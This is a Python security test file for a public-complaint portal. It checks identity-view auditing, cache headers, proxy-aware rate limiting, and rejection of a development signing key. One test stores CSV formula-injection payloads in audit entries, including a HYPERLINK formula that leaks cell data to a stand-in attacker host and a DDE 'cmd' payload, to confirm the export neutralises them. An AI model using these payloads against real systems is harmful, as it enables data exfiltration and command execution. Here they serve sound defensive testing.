"""Attacks on what the portal and the workspace hand out, each of which must fail: the
reporter's identity without a reason, a formula in a CSV export, pages with personal data or
secrets kept by a cache, one client's limits blocking everyone behind a proxy (and a client
claiming another's address), the development signing key in production. The portal runs
in-process on the real store; the services behind it are a recording fake."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest

from lapor_devstack.settings import StackSettings
from lapor_kit.auth import DEV_SIGNING_KEY, KeySet, SigningKey, TokenVerifier, issue
from lapor_kit.settings import UnsafeSettingsError
from lapor_portal.identity import AuditEntry
from lapor_portal.main import create_app
from lapor_portal.settings import PortalSettings
from tests.security.harness import REPORT, TID, body_of, form_token, hidden, portal, sign_in

pytestmark = [pytest.mark.integration]


async def test_the_identity_view_needs_a_reason_and_the_audit_keeps_it(
    infra: object, stack_settings: StackSettings
) -> None:
    """Found: reason='' showed name, e-mail and phone, and the audit detail was {}."""
    async with portal(stack_settings) as p, p.client() as city:
        assert (await sign_in(city, "banjarmasin.pupr")).status_code == 303
        page = await city.get(f"/kerja/kasus/{TID}")
        csrf = hidden(page.text, "csrf")
        for reason in ("", "   ", "lihat", "x" * 20):
            refused = await city.post(
                f"/kerja/kasus/{TID}/identitas", data={"csrf": csrf, "reason": reason}
            )
            assert refused.status_code == 422, reason
            assert "Rina Wati" not in refused.text
        assert p.services.to(f"/api/v1/staff/complaints/{TID}/reporter") == []
        why = "menghubungi pelapor untuk lokasi persisnya"
        shown = await city.post(f"/kerja/kasus/{TID}/identitas", data={"csrf": csrf, "reason": why})
        assert shown.status_code == 200
        assert "Rina Wati" in shown.text
        assert shown.headers["cache-control"] == "no-store"
        entries = await p.app.state.portal_store.audit_entries("63", case=TID)
        assert [e.detail.get("reason") for e in entries if e.action == "identity_viewed"] == [why]


async def test_no_csv_cell_is_a_formula(infra: object, stack_settings: StackSettings) -> None:
    """Found: =hyperlink(...) and +cmd|... went into /kerja/audit.csv as they were."""
    async with portal(stack_settings) as p, p.client() as admin:
        store = p.app.state.portal_store
        for who in (
            '=HYPERLINK("http://evil.example/?"&A1,"klik")',
            "+cmd|' /C calc'!A0",
            "@SUM(1)",
        ):
            await store.audit(
                AuditEntry(at=datetime.now(UTC), who=who, role="-", tenant="63", action="-")
            )
        assert (await sign_in(admin, "admin.nasional")).status_code == 303
        text = (await admin.get("/kerja/audit.csv")).text
        import csv
        import io

        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert "'=HYPERLINK(" in text


async def test_nothing_personal_or_secret_is_kept_by_a_cache(
    infra: object, stack_settings: StackSettings
) -> None:
    """Found: no Cache-Control: no-store on the identity view, the temporary password, the
    walk-in receipt, a refused form with contact data and the two-step key."""
    async with portal(stack_settings) as p, p.client() as coordinator, p.client() as citizen:
        assert (await sign_in(coordinator, "kalsel.koordinator")).status_code == 303
        accounts = await coordinator.get("/kerja/akun")
        made = await coordinator.post(
            "/kerja/akun",
            data={
                "csrf": hidden(accounts.text, "csrf"),
                "username": "dinsos.baru",
                "name": "Admin Dinsos",
                "role": "regency_coordinator",
                "region_code": "63.71",
            },
        )
        entry = await coordinator.get("/kerja/lapor")
        walk_in = await coordinator.post(
            "/kerja/lapor",
            data={
                "csrf": hidden(entry.text, "csrf"),
                "channel": "walk_in",
                "title": "Jalan rusak",
                "description": "Jalan rusak parah di depan sekolah.",
                "category": "infrastruktur",
                "region_code": "63.71",
                "name": "Pak Darto",
                "phone": "081234567890",
            },
        )
        me = await coordinator.get("/kerja/akun/saya")
        enrol = await coordinator.post(
            "/kerja/akun/saya/2fa",
            data={"csrf": hidden(me.text, "csrf"), "step": "mulai", "password": "x"},
        )
        p.services.answers[("POST", "/api/v1/complaints")] = (
            422,
            {"detail": "-", "detail_en": "-", "errors": [{"field": "title", "message": "pendek"}]},
        )
        refused = await citizen.post(
            "/lapor",
            data={
                "csrf": await form_token(citizen, "/lapor"),
                "title": "x",
                "name": "Siti Aminah",
                "phone": "+628111000222",
            },
        )
        for answer in (made, walk_in, enrol, refused, me, accounts):
            assert answer.headers.get("cache-control") == "no-store", answer.request.url
        assert "rahasia-slip-0001" in walk_in.text  # the receipt shows the reporter's secret
        assert "Siti Aminah" in refused.text  # the refused form keeps what was typed


async def test_behind_a_proxy_each_citizen_has_their_own_limits(
    infra: object, stack_settings: StackSettings
) -> None:
    """Found: behind ingress-nginx the portal could not take the client's address from the
    proxy (one client's limits blocked everyone) and passed the proxy's address on to
    intake (all citizens shared intake's buckets)."""
    async with portal(stack_settings, trusted_proxies="10.0.0.0/8") as p:
        ingress = "10.2.3.4"
        async with (
            p.client(ingress, **{"X-Forwarded-For": "198.51.100.23"}) as ani,
            p.client(ingress, **{"X-Forwarded-For": "198.51.100.24"}) as budi,
            p.client("203.0.113.99", **{"X-Forwarded-For": "198.51.100.24"}) as liar,
        ):
            form = await ani.get("/lapor")
            await ani.post(
                "/lapor",
                data={
                    "csrf": hidden(form.text, "csrf"),
                    "form_id": hidden(form.text, "form_id"),
                    "title": "Lampu jalan mati",
                    "description": "Lampu jalan mati sejak seminggu.",
                    "category": "infrastruktur",
                    "region_code": "63.71",
                    "anonymous": "1",
                },
            )
            sent = p.services.to("/api/v1/complaints")[-1]
            assert sent.headers["x-forwarded-for"] == "198.51.100.23"
            assert sent.headers["x-lapor-upload-key"] == hidden(form.text, "form_id")
            assert body_of(sent)["title"] == "Lampu jalan mati"
            # 30 sign-ins a minute per address: Ani's burst does not stop Budi
            csrf = await form_token(ani)
            for n in range(40):  # other usernames each time: the address's limit, not theirs
                last = await sign_in(ani, f"tebak.{n}", "x", csrf=csrf)
            assert last.status_code == 429
            assert "Terlalu banyak percobaan; tunggu" in last.text
            assert (await sign_in(budi, "budi.sendiri", "x")).status_code == 401
            # a client that is not a proxy cannot claim another's address
            liar_csrf = await form_token(liar)
            for n in range(40):
                spoofed = await sign_in(liar, f"palsu.{n}", "x", csrf=liar_csrf)
            assert spoofed.status_code == 429
            assert (await sign_in(budi, "budi.lagi", "x")).status_code == 401


def test_production_refuses_the_development_key_whatever_its_source(tmp_path: Path) -> None:
    """Found: production accepted the development signing key when it came as a PEM file
    (the check looked at the setting, not the key)."""
    pem = tmp_path / "kunci.pem"
    pem.write_bytes(DEV_SIGNING_KEY.pem())
    strong: dict[str, Any] = {
        "env": "production",
        "portal_secret": "p" * 40,
        "totp_key": "t" * 40,
        "secure_cookies": True,
    }
    with pytest.raises(UnsafeSettingsError, match="development key"):
        create_app(PortalSettings(signing_keys=str(pem), **strong))
    own = tmp_path / "own.pem"
    own.write_bytes(SigningKey.generate().pem())
    create_app(PortalSettings(signing_keys=str(own), **strong))


async def test_services_in_production_refuse_a_published_development_key() -> None:
    """A portal misconfigured to sign with a copy of the public key: its tokens are refused
    by the services anyway (the key is recognised by its public half, not its kid)."""
    copy = SigningKey.of(DEV_SIGNING_KEY.private, kid="looks-like-ours")
    real = SigningKey.generate()
    jwks = {"keys": [copy.public_jwk(), real.public_jwk()]}
    transport = httpx.MockTransport(lambda _: httpx.Response(200, json=jwks))
    async with httpx.AsyncClient(transport=transport) as client:
        verifier = TokenVerifier(
            "http://portal/.well-known/jwks.json",
            refused=KeySet.of(DEV_SIGNING_KEY),
            client=client,
        )
        forged = issue(copy, subject="siapa-saja", role="national_admin", tenant="*")
        with pytest.raises(Exception, match="unknown key"):
            await verifier.verify(forged)
        good = issue(real, subject="andi", role="national_admin", tenant="*")
        assert (await verifier.verify(good)).subject == "andi"


async def test_production_pages_insist_on_https_and_name_no_server(
    infra: object, stack_settings: StackSettings, tmp_path: Path
) -> None:
    key = tmp_path / "own.pem"
    key.write_bytes(SigningKey.generate().pem())
    async with (
        portal(
            stack_settings,
            env="production",
            portal_secret="p" * 40,
            totp_key="t" * 40,
            secure_cookies=True,
            signing_keys=str(key),
            seed_dev_accounts=False,
        ) as p,
        p.client() as browser,
    ):
        home = await browser.get("/")
        assert home.headers["strict-transport-security"].startswith("max-age=")
    async with portal(stack_settings) as dev, dev.client() as browser:
        assert "strict-transport-security" not in (await browser.get("/")).headers


async def test_a_follow_up_attaches_only_the_staff_members_own_upload(
    infra: object, stack_settings: StackSettings
) -> None:
    """The portal uploads an agency's files through intake's staff door (the handle is bound
    to the person's token) and hands routing only that handle, never a stored reference."""
    async with portal(stack_settings) as p, p.client() as city:
        assert (await sign_in(city, "banjarmasin.pupr")).status_code == 303
        page = await city.get(f"/kerja/kasus/{TID}")
        photo = b"\x89PNG\r\n\x1a\n" + b"\x00" * 200_000  # more than a form's 64 KiB
        done = await city.post(
            f"/kerja/kasus/{TID}/aksi/follow_up",
            data={"csrf": hidden(page.text, "csrf"), "text": "Lubang sudah ditambal."},
            files={"lampiran": ("tambal.png", photo, "image/png")},
        )
        assert done.status_code == 303, done.text
        (uploaded,) = p.services.to("/api/v1/staff/attachments")
        assert uploaded.headers["authorization"].startswith("Bearer ")
        (sent,) = p.services.to(f"/api/v1/cases/{TID}/follow-up")
        attachments = body_of(sent)["attachments"]
        assert len(attachments) == 1
        assert set(attachments[0]) == {"handle"}


async def test_a_coordinator_hides_or_redacts_what_the_public_sees_and_it_is_audited(
    infra: object, stack_settings: StackSettings
) -> None:
    async with portal(stack_settings) as p, p.client() as coordinator, p.client() as agency:
        p.services.answers[("GET", f"/api/v1/staff/complaints/{TID}")] = (
            200,
            {**REPORT, "confidential": False, "verified": True, "may_moderate": True},
        )
        p.services.answers[("PUT", f"/api/v1/staff/complaints/{TID}/public")] = (
            200,
            {"tenant": "63", "hidden": True, "public_redactions": ["Gang Mawar 7"]},
        )
        assert (await sign_in(coordinator, "kalsel.koordinator")).status_code == 303
        page = await coordinator.get(f"/kerja/kasus/{TID}")
        assert "Simpan tampilan publik" in page.text
        saved = await coordinator.post(
            f"/kerja/kasus/{TID}/publik",
            data={"csrf": hidden(page.text, "csrf"), "hidden": "1", "redactions": "Gang Mawar 7\n"},
        )
        assert saved.status_code == 303
        (sent,) = p.services.to(f"/api/v1/staff/complaints/{TID}/public")
        assert body_of(sent) == {"hidden": True, "redactions": ["Gang Mawar 7"]}
        entries = await p.app.state.portal_store.audit_entries("63", case=TID)
        [entry] = [e for e in entries if e.action == "public_view_changed"]
        assert entry.who == "kalsel.koordinator"
        assert entry.detail == {"hidden": True, "redactions": 1}
        # an agency's own page offers no such form (intake says it may not)
        p.services.answers[("GET", f"/api/v1/staff/complaints/{TID}")] = (
            200,
            {**REPORT, "confidential": False, "verified": True, "may_moderate": False},
        )
        assert (await sign_in(agency, "banjarmasin.pupr")).status_code == 303
        assert "Simpan tampilan publik" not in (await agency.get(f"/kerja/kasus/{TID}")).text
